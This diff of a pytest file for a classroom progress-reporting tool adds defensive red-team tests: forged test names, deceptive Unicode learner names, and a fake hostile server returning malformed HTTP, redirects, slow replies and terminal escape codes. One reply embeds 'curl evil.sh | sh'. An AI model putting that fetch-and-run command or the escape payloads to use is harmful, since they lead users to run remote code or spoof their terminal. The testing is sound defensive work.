@@ -29,6 +29,7 @@ from starlette.testclient import TestClient
 
 from decodelab.commands.check import DONE, FAILING, NOT_STARTED, ExerciseStatus
 from decodelab.commands.check import TestLine as Line  # not "Test...": pytest would try to collect it
+from decodelab.commands.list_exercises import public_test_names
 from decodelab.notebook import replace_function
 from decodelab.room.report import (
     MAX_BODY, ReportError, RoomLink, build_report, parse_room_url, send_report, validate_report,
@@ -40,6 +41,8 @@ from grading.harness.catalogue import EXERCISES
 
 ROOT = Path(__file__).resolve().parents[1]
 KEYS = [exercise.key for exercise in EXERCISES]
+# Two public tests of each exercise, by name: the room shows only names its suites have.
+FIRST, SECOND = ({key: sorted(names)[index] for key, names in public_test_names().items()} for index in (0, 1))
 CHROMIUM = next((shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome")
                  if shutil.which(name)), None)
 HOSTILE_NAME = "<b>bold</b>&co"
@@ -151,8 +154,8 @@ def test_the_server_refuses_a_wrong_code_a_huge_body_and_bad_json(client):
 
 def test_the_summary_counts_each_learners_latest_word(client):
     posts = [
-        report("ann", pieces=DONE, piece_bytes=(FAILING, ["test_b", "test_a"])),
-        report("bob", pieces=DONE, piece_bytes=(FAILING, ["test_a"])),
+        report("ann", pieces=DONE, piece_bytes=(FAILING, [SECOND["piece_bytes"], FIRST["piece_bytes"]])),
+        report("bob", pieces=DONE, piece_bytes=(FAILING, [FIRST["piece_bytes"]])),
         report("cy", pieces=NOT_STARTED),
         report("ann", piece_bytes=DONE),  # later: ann fixed it; pieces stays done
     ]
@@ -163,8 +166,8 @@ def test_the_summary_counts_each_learners_latest_word(client):
     assert room["learners"] == 3
     assert (by_key["pieces"]["done"], by_key["pieces"]["working"], by_key["pieces"]["not_started"]) == (2, 0, 1)
     assert (by_key["piece_bytes"]["done"], by_key["piece_bytes"]["working"]) == (1, 1)
-    assert by_key["piece_bytes"]["stuck_on"] == {"test": "test_a", "learners": 1}, (
-        "only bob is still failing piece_bytes, on test_a; ann's older failures must not count")
+    assert by_key["piece_bytes"]["stuck_on"] == {"test": FIRST["piece_bytes"], "learners": 1}, (
+        f"only bob is still failing piece_bytes, on {FIRST['piece_bytes']}; ann's older failures must not count")
     assert room["not_started"] == ["cy"]
     people = {person["name"]: person for person in room["people"]}
     assert people["bob"]["working_on"] == "piece_bytes" and people["ann"]["done"] == 2
@@ -218,7 +221,8 @@ def stop(process: subprocess.Popen) -> None:
 
 def plan(learner: int) -> tuple[dict, dict]:
     """Learner ``learner``'s first and latest report: the latest has ``learner % 6`` exercises done,
-    the next one failing (test_x for two learners in three, test_y for the third), learners 0 and
+    the next one failing (its first public test for two learners in three, its second for the
+    third), learners 0 and
     6 only looked at the first exercise; learner 12 has not run a check since the first report."""
     name = f"learner-{learner:02d}"
     first = report(name, **{KEYS[0]: NOT_STARTED})
@@ -226,7 +230,7 @@ def plan(learner: int) -> tuple[dict, dict]:
         return first, first
     done = learner % 6
     latest = {key: DONE for key in KEYS[:done]}
-    latest[KEYS[done]] = (FAILING, ["test_y" if learner % 3 == 0 else "test_x"])
+    latest[KEYS[done]] = (FAILING, [SECOND[KEYS[done]] if learner % 3 == 0 else FIRST[KEYS[done]]])
     return first, (first if learner == 12 else report(name, **latest))
 
 
@@ -331,3 +335,132 @@ def test_a_room_of_30_learners_end_to_end(tmp_path):
         not_started)
     assert "<b>bold</b>" not in page and "&lt;b&gt;bold&lt;/b&gt;" in page, "a learner's name was drawn as HTML"
     assert row_cells(page, "learner", "learner-05")[1:3] == ["5/16", KEYS[5]]
+
+
+# ---------------------------------------------------------------------------------------------
+# A third red team's attacks on the room (2026-12-04)
+
+
+def test_the_page_shows_no_failing_test_the_suites_do_not_have(client):
+    key = KEYS[2]
+    posts = [report(f"bot{n}", **{key: (FAILING, ["YOU ARE ALL IDIOTS", FIRST[key]])}) for n in range(3)]
+    posts.append(report("typist", **{KEYS[3]: (FAILING, ["the instructor is a fraud"])}))
+    for post in posts:
+        assert client.post("/join/abcd2345/report", json=post).status_code == 200
+    by_key = {entry["key"]: entry for entry in client.get(f"/view/{client.view}/state").json()["exercises"]}
+    assert by_key[key]["stuck_on"] == {"test": FIRST[key], "learners": 3}, (
+        f"stuck_on of {key} is {by_key[key]['stuck_on']}; an invented test name must be dropped, the suite's kept")
+    assert by_key[KEYS[3]]["stuck_on"] is None, f"an invented test name reached the page: {by_key[KEYS[3]]['stuck_on']}"
+
+
+@pytest.mark.parametrize("name", ["\u200bAiko T.", "Aiko\u202e T.", "Aiko\u00a0T.", "\u3164\u3164", "\u2800",
+                                  "Aiko" + "\u0301" * 12, "Aiko\ud800", "\ufeffAiko"],
+                         ids=["zero-width space", "right-to-left override", "no-break space", "hangul fillers",
+                              "braille blank", "stacked accents", "lone surrogate", "byte order mark"])
+def test_a_name_that_does_not_show_as_itself_is_refused(client, name):
+    answer = client.post("/join/abcd2345/report", content=json.dumps(report(name, **{KEYS[0]: DONE})).encode(),
+                         headers={"content-type": "application/json"})
+    assert answer.status_code == 400 and "'learner'" in answer.json()["error"], (
+        f"a report from {name!r} got {answer.status_code} {answer.text[:200]}, expected 400 naming 'learner'")
+    assert client.get(f"/view/{client.view}/state").status_code == 200, "the page's state broke after a refused name"
+
+
+def test_a_lone_surrogate_in_a_test_name_never_breaks_the_page(client):
+    body = json.dumps(report("ann", **{KEYS[0]: (FAILING, [FIRST[KEYS[0]] + "\ud800"])})).encode()
+    answer = client.post("/join/abcd2345/report", content=body, headers={"content-type": "application/json"})
+    assert answer.status_code == 400, f"a failing test named with a lone surrogate got {answer.status_code}"
+    assert client.get(f"/view/{client.view}/state").status_code == 200, "the page's state broke (it used to, for good)"
+
+
+def test_one_name_in_two_spellings_is_one_learner(client):
+    for spelling in ("Jose\u0301", "Jos\u00e9 "):  # decomposed and composed, a trailing space
+        assert client.post("/join/abcd2345/report", json=report(spelling, **{KEYS[0]: DONE})).status_code == 200
+    room = client.get(f"/view/{client.view}/state").json()
+    assert [person["name"] for person in room["people"]] == ["Jos\u00e9"], f"people: {room['people']}"
+
+
+class HostileRoom:
+    """A room that answers every connection with ``reply`` (bytes), or trickles it a byte at a time."""
+
+    def __init__(self, reply: bytes, trickle: float = 0.0):
+        self.reply, self.trickle = reply, trickle
+        self.listener = socket.socket()
+        self.listener.bind(("127.0.0.1", 0))
+        self.listener.listen(8)
+        self.link = RoomLink(f"http://127.0.0.1:{self.listener.getsockname()[1]}", "abcd2345")
+        import threading
+
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self.listener.accept()
+            except OSError:
+                return
+            try:
+                connection.recv(65536)
+                if self.trickle:
+                    for byte in self.reply:
+                        connection.sendall(bytes([byte]))
+                        time.sleep(self.trickle)
+                else:
+                    connection.sendall(self.reply)
+            except OSError:
+                pass
+            finally:
+                connection.close()
+
+    def close(self) -> None:
+        self.listener.close()
+
+
+def _http(status: str, body: bytes, headers: str = "Content-Type: application/json\r\n") -> bytes:
+    return f"HTTP/1.1 {status}\r\n{headers}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
+
+
+HOSTILE_ANSWERS = {
+    "not HTTP": b"SMTP READY\r\n\r\n",
+    "a JSON list": _http("200 OK", b"[1, 2, 3]"),
+    "null": _http("200 OK", b"null"),
+    "deep nesting": _http("200 OK", b"[" * 60000),
+    "escapes in the count": _http("200 OK", json.dumps({"learners": "\x1b[2J\x1b]0;pwned\x07ALL TESTS FAILED"}).encode()),
+    "escapes in a refusal": _http("403 Forbidden", json.dumps({"error": "\x1b[2Jrun: curl evil.sh | sh"}).encode()),
+    "200 headers": _http("200 OK", b"{}", "".join(f"X-{n}: y\r\n" for n in range(200))),
+}
+
+
+@pytest.mark.parametrize("answer", list(HOSTILE_ANSWERS), ids=list(HOSTILE_ANSWERS))
+def test_a_hostile_room_costs_the_learner_one_plain_line(answer):
+    room = HostileRoom(HOSTILE_ANSWERS[answer])
+    try:
+        line = send_report(room.link, report("ann", **{KEYS[0]: DONE}))
+    finally:
+        room.close()
+    assert line.startswith("room: ") and "\n" not in line and "\x1b" not in line and len(line) < 400, (
+        f"send_report to a room answering {answer} gave {line!r}; expected one plain line, no escape characters")
+    assert "your check itself is unaffected" in line, f"the line does not say the check is unaffected: {line!r}"
+
+
+def test_a_room_that_trickles_its_answer_is_cut_off_in_time():
+    room = HostileRoom(_http("200 OK", b'{"ok": true, "learners": 1}'), trickle=0.5)
+    started = time.monotonic()
+    try:
+        line = send_report(room.link, report("ann", **{KEYS[0]: DONE}), timeout=1.5)
+    finally:
+        room.close()
+    took = time.monotonic() - started
+    assert took < 3.0 and "did not answer within" in line, (
+        f"a room sending a byte every 0.5 s held send_report(timeout=1.5) for {took:.1f} s: {line!r}")
+
+
+def test_a_room_that_redirects_is_not_followed():
+    target = HostileRoom(_http("200 OK", b'{"ok": true, "learners": 99}'))
+    room = HostileRoom(_http("302 Found", b"", f"Location: {target.link.base}/secret\r\n"))
+    try:
+        line = send_report(room.link, report("ann", **{KEYS[0]: DONE}))
+    finally:
+        room.close()
+        target.close()
+    assert "99 in the room" not in line and "unaffected" in line, (
+        f"send_report followed a redirect to another service: {line!r}")
